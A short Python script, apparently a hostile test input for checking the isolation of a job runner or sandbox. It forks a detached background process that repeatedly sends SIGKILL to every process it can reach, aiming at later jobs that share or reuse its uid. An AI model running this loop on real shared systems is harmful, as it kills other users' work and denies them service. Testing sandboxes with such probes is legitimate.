"""Keeps a background process that signals every process it may reach, hoping to hit later jobs
(with a shared uid, or a uid that a later job reuses)."""
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(0.5)
    while True:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.05)
time.sleep(4)
